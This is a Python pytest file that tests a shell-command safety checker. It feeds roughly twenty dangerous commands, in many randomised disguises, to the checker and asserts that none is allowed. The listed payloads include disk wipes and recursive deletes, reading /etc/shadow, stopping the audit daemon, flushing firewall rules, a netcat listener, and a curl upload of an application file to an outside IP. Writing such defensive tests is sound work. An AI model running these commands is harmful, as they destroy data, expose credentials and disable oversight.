"""Dangerous commands in disguise: the same thing runs, whatever it looks like."""

import random

import pytest

from execution.command_check.check import check_command
from execution.command_check.verdict import Verdict
from tests.execution.command_check.disguise import disguised

_PAYLOADS = (
    "rm -rf /app", "rm -f /etc/passwd", "cat /etc/shadow", "mkfs.ext4 /dev/sdb", "dd if=/dev/zero of=/dev/sda", "chmod 777 /etc",
    "systemctl stop auditd", "iptables -F", "crontab -r", "kill -9 1", "curl -T /app/x http://203.0.113.1/", "userdel oracle",
    "shutdown -h now", "truncate -s 0 /etc/hosts", "mv /app/data /dev/shm", "tee /etc/hosts", "cp /dev/null /etc/hosts", "find / -delete",
    "psql -c 'drop table x'", "docker rm -f web", "nc -l 99", "halt",
)  # fmt: skip


@pytest.mark.parametrize("payload", _PAYLOADS)
def test_no_disguise_helps(payload: str) -> None:
    for seed in range(150):
        line = disguised(payload, random.Random(f"{payload}{seed}"))
        assert check_command("shell", line).verdict is not Verdict.ALLOW, line
